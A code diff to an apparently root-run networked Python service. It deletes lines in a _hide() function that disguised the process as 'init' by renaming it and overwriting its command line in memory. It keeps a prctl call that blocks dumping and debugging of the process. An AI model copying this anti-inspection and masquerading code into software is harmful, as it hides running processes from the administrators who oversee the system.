@@ -16,7 +16,6 @@ import select
 import signal
 import socket
 import time
-from pathlib import Path
 
 __all__ = ["main"]
 
@@ -30,7 +29,7 @@ SILENT_S = 20.0
 """After so long without an answer, nothing may go on that is not known to be wanted."""
 MOST_ANSWER = 1 << 16
 MOST_TOLD = 1 << 16
-PR_SET_DUMPABLE, PR_SET_NAME = 4, 15
+PR_SET_DUMPABLE = 4
 ENV = {"HOME": "/root", "LANG": "C.UTF-8", "PATH": os.defpath, "USER": "root"}
 # Every process of the server goes before this one, should memory run out.
 START = """\
@@ -232,11 +231,5 @@ def main(address: str, host: str, ttl_s: float) -> None:
 
 
 def _hide() -> None:
-    """Let nobody look into this process or hold it, or read its long command line."""
-    libc = ctypes.CDLL(None)
-    libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
-    libc.prctl(PR_SET_NAME, b"init", 0, 0, 0)
-    fields = Path("/proc/self/stat").read_text().rpartition(")")[2].split()
-    start, end = int(fields[45]), int(fields[46])  # arg_start and arg_end, proc(5)
-    ctypes.memset(start, 0, end - start)
-    ctypes.memmove(start, b"init", 4)
+    """Let nobody look into this process or hold it."""
+    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
